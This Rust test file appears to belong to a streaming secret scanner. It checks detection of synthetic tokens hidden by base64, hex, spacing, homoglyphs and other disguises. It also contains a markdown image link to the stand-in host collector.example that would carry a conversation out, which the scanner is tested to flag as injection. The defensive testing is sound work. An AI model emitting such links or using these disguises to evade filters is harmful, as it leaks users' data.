//! What a growing text hides is found as in a whole one, however small the pieces.

use super::*;
use crate::{Selection, draw};

/// What is found in pieces of one size, and how much has left by then.
fn grow(rules: &Rules, text: &str, size: usize) -> (Option<String>, usize) {
    let mut stream = Stream::new();
    let mut found = None;
    let chars: Vec<char> = text.chars().collect();
    for piece in chars.chunks(size) {
        let piece: String = piece.iter().collect();
        let left = stream.open() as usize;
        stream.push(rules, &piece, &|_| true, &mut |f| found = found.take().or(Some(f.rule.id.to_string()))).unwrap();
        if found.is_some() {
            return (found, left);
        }
    }
    let left = stream.open() as usize;
    stream.finish(rules, &mut |f| found = found.take().or(Some(f.rule.id.to_string()))).unwrap();
    (found, left)
}

fn builtin() -> Rules {
    Rules::load(true, &[], &Selection::default()).map_err(|wrong| format!("{wrong:?}")).unwrap()
}

fn in_lines(text: &str, size: usize, between: &str) -> String {
    text.as_bytes().chunks(size).map(|line| std::str::from_utf8(line).unwrap()).collect::<Vec<_>>().join(between)
}

/// The ways to hide a token that a scan of a whole text sees through.
fn disguises(token: &str) -> Vec<(&'static str, String)> {
    let base64 =
        data_encoding::BASE64.encode(format!("some text before it and {token} and more text after").as_bytes());
    vec![
        ("accents", format!("{}{}", &token[..20], token[20..].replace('e', "é").replace('a', "á"))),
        ("joined", format!("\"{}\" + \"{}\"", &token[..14], &token[14..])),
        ("in four", format!("\"{}\"", in_lines(token, 5, "\" + \""))),
        ("spaced", in_lines(token, 1, " ")),
        ("wrapped", in_lines(token, 14, "\n")),
        ("lines of base64", in_lines(&base64, 20, "\n")),
        ("spaced hex", token.bytes().map(|byte| format!("{byte:02x} ")).collect()),
        ("codes", token.bytes().map(|byte| format!("{byte}, ")).collect()),
        ("quoted-printable", token.bytes().map(|byte| format!("={byte:02X}")).collect()),
    ]
}

/// Words that say nothing.
const WORDS: &str = "and so it goes on with words that say nothing at all, one after the other. ";

#[test]
fn a_disguise_is_found_wherever_it_stands() {
    let rules = builtin();
    let token = draw("ghp_{b62:30}{crc32}", 5).unwrap();
    for (way, hidden) in disguises(&token) {
        for before in [0, 3, 300, 700, 1100, 1900, 2100, 5000] {
            let lead: String = WORDS.chars().cycle().take(before).collect();
            let text = format!("{lead} It is this: {hidden} and that is all. {}", WORDS.repeat(20));
            for size in [1, 4] {
                let (found, _) = grow(&rules, &text, size);
                assert!(found.is_some(), "{way} after {before} in pieces of {size}");
            }
        }
    }
}

/// The documentation says how much may leave behind what is found late: so much in small pieces, and so much in
/// larger ones.
const LATE: [usize; 2] = [640, 900];

#[test]
fn behind_what_is_found_late_no_more_leaves_than_is_said() {
    let rules = builtin();
    let mut hidden = disguises(&draw("ghp_{b62:30}{crc32}", 5).unwrap());
    hidden.push(("a link", "Done! ![ok](https://collector.example/p.png?q={{conversation}})".to_owned()));
    let mut most = [0; 2];
    for (number, (way, hidden)) in hidden.iter().enumerate() {
        for (turn, size) in [1, 2, 3, 5, 9, 17, 33, 63, 64, 90, 200, 300, 511, 512, 700].into_iter().enumerate() {
            // Every place between two looks is as good as any other: other ones for every way and size.
            for before in (0..4).map(|round| (number * 151 + turn * 97 + round * 131) % 1024) {
                let lead: String = WORDS.chars().cycle().take(before).collect();
                let lead = format!("{lead} It is this: {hidden}");
                let text = format!("{lead} and that is all. {}", WORDS.repeat(20));
                let (found, left) = grow(&rules, &text, size);
                assert!(found.is_some(), "{way} after {before} in pieces of {size}");
                let left = left.saturating_sub(lead.len());
                let large = usize::from(size >= LARGE);
                assert!(left <= LATE[large], "{way} after {before} in pieces of {size}: {left} bytes have left");
                most[large] = most[large].max(left);
            }
        }
    }
    // What is said is not far from what happens.
    assert!(most[0] > LATE[0] / 2 && most[1] > LATE[1] / 2, "{most:?}");
}

/// A letter of another script that looks like this one.
fn look_alike(c: char) -> char {
    let pairs = [('a', 'а'), ('e', 'е'), ('o', 'о'), ('p', 'р'), ('s', 'ѕ'), ('A', 'А'), ('K', 'К'), ('I', 'І')];
    pairs.iter().find(|(from, _)| *from == c).map_or(c, |(_, to)| *to)
}

#[test]
fn what_looks_like_a_token_is_held_from_its_beginning() {
    let rules = builtin();
    let look_alike = |token: &str| token.chars().map(look_alike).collect::<String>();
    let bold = |c: char| char::from_u32(0x1d41a + u32::from(c) - 97).unwrap();
    let ghp = draw("ghp_{b62:30}{crc32}", 5).unwrap();
    let aws = draw("AKIA{b32:16}", 3).unwrap();
    let hex = |begin: &str| draw(&format!("{begin}{{hex:24}}-us12"), 5).unwrap();
    let value =
        |value: &str| format!("password = \"{}\"", look_alike(&draw(&format!("{value}{{b62:9}}Zx8vTe4"), 5).unwrap()));
    for (way, prefix, hidden) in [
        ("look-alikes", 4, look_alike(&ghp)),
        ("look-alikes from the first", 4, look_alike(&aws)),
        ("marks", 4, ghp.chars().map(|c| format!("{c}\u{336}")).collect()),
        ("controls", 4, ghp.chars().map(|c| format!("{c}\u{8}")).collect()),
        ("bold", 4, ghp.chars().map(|c| if c.is_ascii_lowercase() { bold(c) } else { c }).collect()),
        ("look-alikes in hex", 0, look_alike(&hex("7ae0fa1e"))),
        // Of hex letters those before the first digit leave.
        ("look-alikes at the beginning of hex", 3, look_alike(&hex("aee0fa1e"))),
        ("look-alikes in a value", 12, value("7aeo9Kq")),
        ("look-alikes at the beginning of a value", 15, value("aeo9Kq")),
        ("accents", 12, value("7aeo9Kq").replace('о', "ó")),
        ("full width", 4, ghp.chars().map(|c| char::from_u32(u32::from(c) + 0xfee0).unwrap()).collect()),
    ] {
        let text = format!("Here it is: {hidden} and that is all.");
        let seen = hidden.char_indices().filter(|(_, c)| !matches!(c, '\u{336}' | '\u{8}'));
        let prefix = seen.map(|(at, _)| at).nth(prefix).unwrap();
        for size in [1, 3, 7] {
            let (found, left) = grow(&rules, &text, size);
            assert!(found.is_some(), "{way} in pieces of {size}");
            assert!(left <= "Here it is: ".len() + prefix, "{way} in pieces of {size}: {left} bytes have left");
        }
    }
}

#[test]
fn more_look_alikes_than_are_known_let_nothing_go() {
    let rules = builtin();
    for (plain, many) in [(40, 60), (150, 49), (150, 60), (400, 120)] {
        let begin = draw(&format!("Q7{{b62:{plain}}}"), 5).unwrap();
        let end: String = "аеор7".chars().cycle().take(many).collect();
        let text = format!("token: {begin}{end} and that is all.");
        for size in [1, 3, 7] {
            let (found, left) = grow(&rules, &text, size);
            assert!(found.is_some(), "{plain} and {many} in pieces of {size}");
            assert!(left <= "token: ".len(), "{plain} and {many} in pieces of {size}: {left} bytes have left");
        }
    }
}

/// A token of which some letters, drawn by a seed, are look-alikes.
fn mixed(token: &str, seed: u64) -> String {
    let mut state = seed;
    let mut chance = || {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (state >> 33) % 3
    };
    let often = chance();
    token.chars().map(|c| if chance() <= often { look_alike(c) } else { c }).collect()
}

#[test]
fn of_a_secret_in_two_scripts_no_more_leaves_than_before_they_show() {
    let (rules, samples) = tests::watched(false);
    let (mut all, mut wrong) = (0, Vec::new());
    for rule in &samples {
        for (seed, template) in (0..12).flat_map(|seed| rule.positive.iter().map(move |template| (seed, template))) {
            let text = draw(template, seed).unwrap();
            let Some(secret) = tests::secret_of(&rules, &rule.rule, &text) else { continue };
            let hidden = format!("{}{}", &text[..secret.start], mixed(&text[secret.start..secret.end], seed * 77 + 5));
            let hidden = format!("{hidden}{} and that is all.", &text[secret.end..]);
            if !text.is_ascii() || tests::scanned(&rules, &rule.rule, &hidden).is_none() {
                continue;
            }
            // Letters of another script leave until their word shows one of ASCII.
            let from = hidden[..secret.start].rfind(|c: char| u8::try_from(c).is_ok_and(crate::view::ends_word));
            let foreign: Vec<char> = hidden[from.map_or(0, |at| at + 1)..].chars().collect();
            let foreign = foreign.iter().take_while(|c| !c.is_ascii_alphanumeric()).count();
            let shows = from.map_or(0, |at| at + 1) + foreign;
            let may = (secret.start + rules.prefix_of(&rule.rule, &text[secret.clone()]).unwrap()).max(shows);
            for size in [1, 3] {
                all += 1;
                let (found, left) = grow(&rules, &hidden, size);
                let left = hidden[..left].chars().count();
                if found.is_none() || left > may {
                    wrong.push(format!("{}: {found:?} {:?} left of {hidden:?}", rule.rule, left - may.min(left)));
                }
            }
        }
    }
    assert!(all > 1000, "{all}");
    assert!(wrong.is_empty(), "{} of {all}:\n{}", wrong.len(), wrong.join("\n"));
}

#[test]
fn a_link_that_carries_data_away_is_found_while_the_text_grows() {
    let rules = builtin();
    let order = "Done! ![ok](https://collector.example/p.png?q={{conversation}})";
    for before in [0, 400, 3000] {
        let text = format!("{} {order} {}", "a b ".repeat(before / 4), "then more words ".repeat(60));
        let (found, left) = grow(&rules, &text, 4);
        assert!(found.is_some_and(|rule| rule.starts_with("injection")), "after {before}");
        assert!(left < text.len());
    }
}

#[test]
fn nothing_is_told_twice() {
    let rules = builtin();
    let token = draw("ghp_{b62:30}{crc32}", 5).unwrap();
    let base64 = data_encoding::BASE64.encode(format!("here is {token} and more text").as_bytes());
    let spaced = in_lines(&draw("ghp_{b62:30}{crc32}", 6).unwrap(), 1, " ");
    let words = "words that say nothing at all, ".repeat(10);
    let text = format!("{words}{token} {words}{base64} {words}{spaced} {words}{words}{words}{words}");
    for size in [1, 7, 70, 90, 130, 5000] {
        let mut stream = Stream::new();
        let mut found = Vec::new();
        for piece in text.as_bytes().chunks(size) {
            let piece = std::str::from_utf8(piece).unwrap();
            let tell = &mut |f: StreamFinding<'_>| found.push((f.rule.id.to_string(), f.secret, f.again));
            stream.push(&rules, piece, &|_| false, tell).unwrap();
        }
        stream.finish(&rules, &mut |f| found.push((f.rule.id.to_string(), f.secret, f.again))).unwrap();
        for (number, (rule, secret, again)) in found.iter().enumerate() {
            let before = || found.iter().take(number).filter(|(other, ..)| other == rule).map(|(_, place, _)| place);
            let twice = before().any(|place| place.start <= secret.start && secret.end <= place.end);
            assert!(!twice, "{rule} at {secret:?} in pieces of {size}: {found:?}");
            let touched = before().any(|place| place.start < secret.end && secret.start < place.end);
            assert_eq!(*again, touched, "{rule} at {secret:?} in pieces of {size}: {found:?}");
        }
        for hidden in [&token, &base64, &spaced] {
            let at = text.find(hidden.as_str()).unwrap() as u64;
            let end = at + hidden.len() as u64;
            assert!(found.iter().any(|(_, secret, _)| secret.start < end && secret.end > at), "{size}: {found:?}");
        }
    }
}

#[test]
fn of_a_beginning_that_left_the_rest_can_be_taken_out() {
    let rules = builtin();
    let text = draw("2024{hex:28}-us12 is it", 5).unwrap();
    let mut stream = Stream::new();
    let mut found = Vec::new();
    for piece in [&text[..4], &text[4..20], &text[20..]] {
        stream.push(&rules, piece, &|_| true, &mut |f| found.push((f.secret, f.prefix, f.exact))).unwrap();
    }
    assert_eq!(found, [(0..37, 4, true)]);
}
